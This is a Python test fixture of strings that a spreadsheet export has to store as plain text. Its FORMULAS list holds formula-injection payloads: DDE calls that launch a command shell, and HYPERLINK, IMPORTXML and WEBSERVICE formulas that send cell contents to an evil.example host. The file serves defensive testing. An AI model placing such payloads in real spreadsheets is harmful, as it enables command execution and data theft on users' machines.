# ruff: noqa: E501 - each payload stands on one line as it is sent
"""Texts that a spreadsheet program might obey, misread or refuse; every one must come out as text."""

FORMULAS = [
    "=1+1", "=", "==1", "=A1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")',
    "=HYPERLINK(\"http://evil.example?x=\"&A1)", "=IMPORTXML(CONCAT(\"http://e.example?\",A1),\"//a\")",
    '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")', "=SUM(1;2)*cmd|'/C calc'!A0",
    "=2+5+cmd|' /C calc'!A0", "{=1+1}", "=\t1+1", " =1+1", "\t=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1",
    "'=1+1", '"=1+1"', ";=1+1", ",=1+1", "+1+1", "+cmd|' /C calc'!A0", "+60312345678", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "-", "--", "@SUM(1+1)", "@contoh", "@", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1", "\x00=1+1", "%0A=1+1", "|cmd", "!A1", "#REF!", "#N/A",
    "#NAME?", "#DIV/0!", "TRUE",
]  # fmt: skip

ODDITIES = [
    "00123", "007", "12345678901234567890", "1e5", "0x1F", "1/2", "12-01", "12 Jan 2026", "50%",
    "_x000D_", "_x0041_x0042_", "_x005F_", "_x", "a_x0009_b", "x005F_", " both ends ", "two  spaces",
    "line\nbreak", "tab\there", "a\r\nb", "a\rb", "\x1b]0;title\x07", "\x9b31m", "\ud800", "a\udfffb",
    "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "<b>&amp;</b>", "a & b < c > d", "]]>", '"quoted"',
    "كاون", "جاوي رسمي", "漢字", "😀 emoji", "e\u0301", "\u2028", "\u00a0", "&CKomunikasi & Digital",
]  # fmt: skip
